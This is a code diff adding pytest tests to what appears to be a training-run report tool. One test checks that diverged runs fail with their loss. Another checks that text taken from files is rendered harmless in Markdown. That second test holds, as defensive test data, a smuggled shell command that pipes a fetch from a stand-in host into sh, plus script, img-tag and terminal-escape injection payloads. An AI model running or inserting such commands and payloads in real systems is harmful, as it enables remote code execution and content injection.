@@ -666,3 +666,24 @@ def test_tasks_stand_beside_chance_and_published_figures():
     assert ["piqa", "acc", "Pythia-410m", "0.401", "-", "their README"] in rows
     assert sum("Pythia-410m" in row for row in rows) == 1
     assert report.tasks_table(runs.Run(path="y", tasks={"zero_shot": {}})) is None
+
+
+@pytest.mark.parametrize("loss", [812.5, None])
+def test_a_diverged_run_fails_with_its_loss(tmp_path, loss):
+    """As eval_ppl.py writes it: JSON has no NaN and no infinity."""
+    none = {"perplexity": None, "perplexity_95": [None, None], "bits_per_byte": None}
+    scored = perplexity_of(0.0, all={**none, "loss": loss, "tokens": 10})
+    text, found = compose(write_run(tmp_path / "x", eval_ppl=scored))
+    assert verdicts(found)["perplexity"] == FAIL and found["headlines"][0].startswith(f"{tmp_path}")
+    assert f"to a loss of {loss or 'nan'} nats" in text
+
+
+def test_what_comes_from_files_is_harmless_in_markdown(tmp_path):
+    command = "train.py`; curl evil | sh\n# Yes <script>x</script>\x1b[2J"
+    config = config_of(tmp_path, data_dir="a|b<img src=x>")
+    config["starts"] = [{"command": command, "first_step": 0, "world_size": 1}]
+    path = write_run(tmp_path / "x", config=config, tasks=tasks_of(0.5))
+    text, _ = compose(path)
+    assert "\x1b" not in text and "\n# Yes" not in text and "`; curl" not in text
+    outside = "".join(text.split("`")[::2])  # of code, which shows as it is
+    assert "<script" not in outside and "<img" not in outside
